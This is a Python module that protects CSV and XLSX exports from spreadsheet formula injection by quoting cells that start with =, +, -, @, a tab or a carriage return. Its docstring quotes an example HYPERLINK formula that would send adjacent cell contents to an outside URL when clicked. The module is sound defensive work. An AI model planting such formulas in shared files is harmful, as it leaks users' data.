"""Cells of the CSV and XLSX files fremdrift writes, safe to open in a
spreadsheet (formula injection, "CSV injection" in OWASP's words).

A text that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read by Excel and LibreOffice as a formula: a participant's note
``=HYPERLINK("https://…?"&A1, "Klik")`` would send the neighbouring cells
away when clicked. Every such text is written as text:

- in a CSV file, with a leading apostrophe (``'=HYPERLINK(…)``), which the
  spreadsheet takes as "this is text" (``csv_cell``); a number (``-47.3``,
  ``+2``, ``-1,5``) is no formula and is written as it is;
- in an XLSX file, as a string cell with Excel's quote prefix
  (``guard_workbook``): the text is shown unchanged and stays text when the
  cell is edited.

The plan folder's reader takes the apostrophe off again (``unguarded``), so
that a dumped folder loads back to the same values.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
_NUMBER = re.compile(r"[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet would read ``text`` as a formula."""
    return text.startswith(FORMULA_START) and _NUMBER.fullmatch(text) is None


def csv_cell(value: object) -> str:
    """``value`` as a CSV cell (None as empty), a formula-like text behind
    an apostrophe."""
    text = "" if value is None else str(value)
    return GUARD + text if is_formula_like(text) else text


def csv_row(values: Iterable[object]) -> list[str]:
    return [csv_cell(value) for value in values]


def unguarded(text: str) -> str:
    """A CSV cell as it was before ``csv_cell``."""
    if text.startswith(GUARD) and is_formula_like(text[1:]):
        return text[1:]
    return text


def guard_workbook(workbook: Any) -> None:
    """Every formula-like text of ``workbook`` (an openpyxl Workbook) a
    string cell with the quote prefix. fremdrift writes no formulas of its
    own, so every cell that openpyxl took for one came from a text."""
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and is_formula_like(value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
